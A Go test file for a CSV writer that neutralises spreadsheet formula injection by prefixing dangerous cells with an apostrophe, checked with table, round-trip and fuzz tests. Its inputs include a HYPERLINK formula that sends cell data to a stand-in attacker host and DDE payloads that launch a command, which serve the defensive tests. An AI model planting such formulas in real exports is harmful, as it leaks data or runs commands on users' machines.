package csvout

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"name", "周建国", "周建国"},
		{"formula", "=1+1", "'=1+1"},
		{"equals alone", "=", "'="},
		{"equals number", "=1", "'=1"},
		{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"点击核实")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击核实")`},
		{"plus formula", "+1+1", "'+1+1"},
		{"plus cmd", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus formula", "-1+1", "'-1+1"},
		{"minus dde", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"minus alone", "-", "'-"},
		{"plus alone", "+", "'+"},
		{"minus text", "-某村", "'-某村"},
		{"at", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"tab", "\t=1", "'\t=1"},
		{"tab alone", "\t", "'\t"},
		{"cr", "\r=1", "'\r=1"},
		{"cr lf", "\r\n=1", "'\r\n=1"},
		{"negative integer", "-12", "-12"},
		{"negative decimal", "-12.5", "-12.5"},
		{"positive sign", "+3", "+3"},
		{"leading point", "-.5", "-.5"},
		{"trailing point", "-7.", "-7."},
		{"sign and point only", "-.", "'-."},
		{"two points", "-1.2.3", "'-1.2.3"},
		{"exponent", "-1e3", "'-1e3"},
		{"infinity", "-Inf", "'-Inf"},
		{"thousands", "-1,000", "'-1,000"},
		{"space after sign", "- 1", "'- 1"},
		{"double sign", "--1", "'--1"},
		{"plain number", "12.5", "12.5"},
		{"date", "2026-11-28 18:00:00", "2026-11-28 18:00:00"},
		{"formula later", "周=1+1", "周=1+1"},
		{"space first", " =1+1", " =1+1"},
		{"apostrophe", "'=1", "'=1"},
		{"full-width equals", "＝１＋１", "'＝１＋１"},
		{"full-width plus", "＋86", "'＋86"},
		{"full-width minus", "－１２", "'－１２"},
		{"full-width at", "＠SUM", "'＠SUM"},
		{"full-width digits", "１２", "１２"},
		{"full-width text", "（已核实）", "（已核实）"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Cell(tc.in); got != tc.want {
				t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestWriter writes a record through Writer and reads it back: dangerous cells gain their
// apostrophe, the rest is what encoding/csv alone would write, and the record passed in is
// left as it was.
func TestWriter(t *testing.T) {
	rec := []string{"I1-02", "=1+1", "-3", "", "说明，带逗号"}
	var got, plain bytes.Buffer
	w := NewWriter(&got)
	if err := w.Write([]string{"a", "b", "c", "d", "e"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Errorf("the caller's record was changed: %q", rec)
	}
	pw := csv.NewWriter(&plain)
	pw.Write([]string{"a", "b", "c", "d", "e"})
	pw.Write([]string{"I1-02", "'=1+1", "-3", "", "说明，带逗号"})
	pw.Flush()
	if got.String() != plain.String() {
		t.Errorf("wrote\n%q\nwant\n%q", got.String(), plain.String())
	}
	if strings.HasPrefix(got.String(), "\ufeff") {
		t.Error("a byte order mark: the writers before csvout wrote none")
	}
}

// number is the test's own idea of a plain number, written independently of isNumber.
var number = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)$`)

// FuzzWriter checks the invariant of the package: whatever the cells, the csv written, read
// back with encoding/csv, has the same shape and no cell that begins with = + - @ TAB or CR
// unless it is a plain number; every cell reads back as the input cell, or as it with one
// apostrophe in front.
func FuzzWriter(f *testing.F) {
	for _, seed := range [][2]string{
		{`=HYPERLINK("http://evil.example/?"&A1,"点击核实")`, "周建国"},
		{"-12.5", "+3"},
		{"-1+1", "=1"},
		{"@SUM(A1)", "\t=1"},
		{"\r\n=1", "户编号 6211211012010007"},
		{"＝１＋１", ""},
		{"a,b\"c", "-"},
	} {
		f.Add(seed[0], seed[1])
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		in := []string{a, b, "x"}
		var buf bytes.Buffer
		w := NewWriter(&buf)
		if err := w.Write(in); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("reading back %q: %v", buf.String(), err)
		}
		if len(recs) != 1 || len(recs[0]) != len(in) {
			t.Fatalf("read back %q from %q", recs, in)
		}
		for i, cell := range recs[0] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell) {
				t.Errorf("cell %d of %q reads back as %q", i, in, cell)
			}
			// encoding/csv reads a quoted CR LF back as LF: compare after the same change.
			want := strings.ReplaceAll(in[i], "\r\n", "\n")
			if cell != want && cell != "'"+want {
				t.Errorf("cell %d: wrote %q, read back %q", i, in[i], cell)
			}
		}
	})
}
